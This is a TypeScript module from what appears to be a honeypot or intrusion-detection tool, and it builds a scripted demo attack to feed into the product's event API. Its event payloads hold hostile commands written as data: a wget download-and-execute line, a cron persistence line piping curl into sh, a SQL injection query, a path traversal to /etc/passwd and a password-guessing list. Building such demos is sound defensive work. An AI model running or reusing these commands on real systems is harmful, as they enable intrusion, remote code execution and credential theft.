/**
 * The scripted attack that `up --demo` plays: one intruder over SSH and the web, one office laptop with a decoy file, and
 * a scanner that does nothing more. Its events are sent like all others: `POST /api/events`, with a node's key.
 */
import { hashOf, newNodeKey } from '../cases/credentials.ts';
import { addNode } from '../cases/nodes.ts';
import type { Server } from '../server.ts';
import { CliError } from './failure.ts';
import { localParts } from './local-parts.ts';

type Event = { [key: string]: unknown };

const intruder = '203.0.113.66';
const guesses = ['123456', 'admin', 'root', 'toor', 'password', 'qwerty', 'raspberry', 'changeme', 'letmein'];

/** The events, in minutes before now. All addresses are from the ranges reserved for documentation. */
function script(): { minutesAgo: number; event: Event }[] {
  const ssh = (minutesAgo: number, activity: string, payload: string, extra: Event = {}) => ({
    minutesAgo,
    event: {
      service: 'ssh',
      source_ip: intruder,
      activity,
      payload,
      extra: { session: 'demo-ssh-1', ...extra },
    },
  });
  const web = (minutesAgo: number, payload: string) => ({
    minutesAgo,
    event: { service: 'http', source_ip: intruder, activity: 'http request', payload, extra: {} },
  });
  const login = (minutesAgo: number, password: string, succeeded: boolean) =>
    ssh(minutesAgo, succeeded ? 'login succeeded' : 'login failed', `root:${password}`, {
      username: 'root',
      password,
    });
  const file = (minutesAgo: number, action: string) => ({
    minutesAgo,
    event: {
      hostname: 'fin-laptop-07',
      username: 'j.doe',
      file_accessed: 'passwords-2026.xlsx',
      file_path: 'C:\\Users\\j.doe\\Documents\\passwords-2026.xlsx',
      action,
      severity: 'CRITICAL',
      alert_type: 'decoy_access',
      process_name: 'powershell.exe',
    },
  });
  return [
    {
      minutesAgo: 55,
      event: { service: 'ssh', source_ip: '198.51.100.23', activity: 'connection', payload: '' },
    },
    {
      minutesAgo: 41,
      event: {
        service: 'http',
        source_ip: '198.51.100.23',
        activity: 'http request',
        payload: 'GET /robots.txt HTTP/1.1\r\nHost: shop.example\r\n\r\n',
      },
    },
    ...guesses.map((password, at) => login(30 - at * 0.1, password, false)),
    login(28.9, 'dragon', true),
    ssh(28.5, 'command', 'uname -a; cat /proc/cpuinfo | grep name | wc -l'),
    ssh(28.2, 'command', 'cd /tmp && wget http://198.51.100.99/bins/x86 -O .x && chmod +x .x && ./.x'),
    ssh(28.1, 'file download', 'http://198.51.100.99/bins/x86', { url: 'http://198.51.100.99/bins/x86' }),
    ssh(
      27.9,
      'command',
      '(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.99/c.sh | sh") | crontab -',
    ),
    web(
      14,
      'GET /products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.8\r\n\r\n',
    ),
    web(13, 'GET /download?file=../../../../etc/passwd HTTP/1.1\r\nHost: shop.example\r\n\r\n'),
    file(6, 'ACCESSED'),
    file(4, 'COPIED'),
  ];
}

/** The attack as native events that end now. Ids are fixed, so playing it again changes nothing. */
export const demoEvents = (nowMs: number): Event[] =>
  script().map(({ minutesAgo, event }, at) => ({
    event_id: `demo-${at + 1}`,
    timestamp: new Date(nowMs - minutesAgo * 60_000).toISOString(),
    ...event,
  }));

/** The demo's node and a key for it: a new one at every start, because no key is stored anywhere. */
async function demoNode(server: Server, user_id: string): Promise<{ node_id: string; key: string }> {
  const tenant = server.store.of(user_id);
  // By its kind as well: a person's own node may be called demo.
  const existing = (await tenant.nodes()).find(({ name, os_type }) => name === 'demo' && os_type === 'demo');
  if (!existing) {
    const { node, key } = await addNode(
      { ...localParts, tenant },
      { user_id, name: 'demo', os_type: 'demo' },
    );
    return { node_id: node.node_id, key };
  }
  const fresh = newNodeKey(localParts.random);
  await tenant.updateNode(existing.node_id, { key_hash: hashOf(fresh), status: 'active' });
  return { node_id: existing.node_id, key: fresh };
}

/** Sends the attack to the running server. Resolves with the counts of its answer. */
export async function playDemo(
  server: Server,
  userId: string,
  nowMs = Date.now(),
): Promise<{ accepted: number; duplicate: number; alerts: number }> {
  const { key } = await demoNode(server, userId);
  const answer = await server.app.inject({
    method: 'POST',
    url: '/api/events',
    headers: { 'x-node-key': key, 'content-type': 'application/json' },
    payload: JSON.stringify(demoEvents(nowMs)),
  });
  if (answer.statusCode !== 200)
    throw new CliError(
      `the demo events were refused: the server answered ${answer.statusCode} ${answer.body.slice(0, 200)}`,
    );
  const body: {
    accepted: number;
    duplicate: number;
    results: { status: string; alert_created?: boolean }[];
  } = answer.json();
  return {
    accepted: body.accepted,
    duplicate: body.duplicate,
    alerts: body.results.filter((one) => one.status === 'accepted' && one.alert_created).length,
  };
}
